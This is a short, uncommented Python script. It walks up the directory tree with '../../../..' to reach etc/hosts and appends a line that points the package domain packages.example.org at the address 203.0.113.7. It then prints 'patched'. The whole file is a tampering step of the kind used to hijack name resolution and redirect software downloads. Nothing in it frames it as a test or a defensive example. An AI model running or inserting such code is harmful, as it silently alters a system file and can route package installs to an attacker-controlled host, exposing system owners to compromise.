import os

base = os.getcwd()
target = os.path.join(base, "../../../..", "etc", "hosts")
with open(target, "a") as hosts:
    hosts.write("203.0.113.7 packages.example.org\n")
print("patched", os.path.normpath(target))
